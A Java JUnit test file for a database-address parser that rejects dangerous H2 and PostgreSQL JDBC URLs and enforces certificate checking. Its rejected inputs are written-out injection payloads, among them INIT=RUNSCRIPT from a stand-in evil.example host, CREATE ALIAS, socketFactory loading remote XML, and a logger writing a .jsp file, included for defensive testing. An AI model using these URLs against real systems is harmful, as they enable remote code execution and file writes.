package org.creditdesk.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.creditdesk.problem.Problem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A store's address says where the store is and nothing else: URLs of both drivers can run code and write files. */
class StoreAddressTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/tmp/desk;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "/tmp/desk;INIT=CREATE ALIAS X AS 'void x() {}'",
                "/tmp/desk;TRACE_LEVEL_FILE=3",
                "/tmp/desk;TRACE_LEVEL_SYSTEM_OUT=2",
                "/tmp/desk;AUTO_SERVER=TRUE",
                "/tmp/desk;IFEXISTS=FALSE",
                "/tmp/desk;FORBID_CREATION=FALSE",
                "/tmp/desk;DATABASE_EVENT_LISTENER='x.Y'",
                "jdbc:h2:file:/tmp/desk\\;INIT=X",
                "jdbc:h2:tcp://evil.example/desk",
                "jdbc:h2:ssl://evil.example/desk",
                "jdbc:h2:mem:desk",
                "jdbc:h2:zip:/tmp/x.zip!/desk",
                "jdbc:h2:classpath:desk",
                "jdbc:h2:split:/tmp/desk",
                "jdbc:h2:~/desk",
                "JDBC:H2:MEM:desk",
                " jdbc:h2:mem:desk",
                "jdbc:mysql://localhost/desk",
                "jdbc:postgresql://db/desk?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/desk?socketFactoryArg=http://evil.example/x.xml",
                "jdbc:postgresql://db/desk?sslfactory=x.Y",
                "jdbc:postgresql://db/desk?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://db/desk?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://db/desk?sslhostnameverifier=x.Y",
                "jdbc:postgresql://db/desk?sslpasswordcallback=x.Y",
                "jdbc:postgresql://db/desk?xmlFactoryFactory=x.Y",
                "jdbc:postgresql://db/desk?sslmode=require&%73ocketFactory=x.Y",
                "jdbc:postgresql://db/desk?SSLMODE=disable",
                "jdbc:postgresql://db/desk?user=postgres&password=secret",
                "jdbc:postgresql://db/desk?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql://db/desk?service=x",
                "",
                "   ",
            })
    void whatAsksForMoreThanAPlaceIsRefused(String text) {
        Problem problem = assertThrows(Problem.class, () -> StoreAddress.parse(text));
        assertEquals(Problem.Kind.WRONG_USE, problem.kind());
        assertFalse(problem.getMessage().contains("secret"), problem.getMessage());
    }

    @ParameterizedTest
    @ValueSource(strings = {"bad\u0000name", "mem:desk\u0000"})
    void aPathThatCannotBeIsRefused(String text) {
        Problem problem = assertThrows(Problem.class, () -> StoreAddress.parse(text));
        assertEquals(Problem.Kind.WRONG_USE, problem.kind());
    }

    @ParameterizedTest
    @CsvSource({
        "/data/desk, jdbc:h2:file:/data/desk",
        "/data/desk.mv.db, jdbc:h2:file:/data/desk",
        "jdbc:h2:file:/data/desk, jdbc:h2:file:/data/desk",
        "/data/../data/desk, jdbc:h2:file:/data/desk",
        "/data/mem:desk, jdbc:h2:file:/data/mem:desk",
        "'/data/Büro desk', 'jdbc:h2:file:/data/Büro desk'",
    })
    void aFileIsFoundByItsPath(String text, String url) {
        StoreAddress address = StoreAddress.parse(text);
        assertEquals(StoreKind.H2, address.kind());
        assertEquals(url, address.url());
        assertTrue(address.toString().endsWith(".mv.db"));
    }

    /** pgjdbc's own default checks no certificate. */
    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.example/desk, verify-full",
        "jdbc:postgresql://db.example:5432/desk, verify-full",
        "jdbc:postgresql://localhost.evil.example/desk, verify-full",
        "'jdbc:postgresql://localhost,evil.example/desk', verify-full",
        "jdbc:postgresql://10.0.0.1/desk?sslmode=require, require",
        "jdbc:postgresql://localhost/desk, prefer",
        "jdbc:postgresql://127.0.0.1:5555/desk, prefer",
    })
    void aServerOverTheNetworkMustShowItsCertificate(String text, String mode) {
        StoreAddress address = StoreAddress.parse(text);
        assertEquals(StoreKind.POSTGRESQL, address.kind());
        assertTrue(address.url().contains("sslmode=" + mode), address.url());
    }

    @Test
    void theShownAddressHoldsNoParameters() {
        assertEquals(
                "postgresql://db.example/desk",
                StoreAddress.parse("jdbc:postgresql://db.example/desk?sslmode=require")
                        .toString());
    }
}
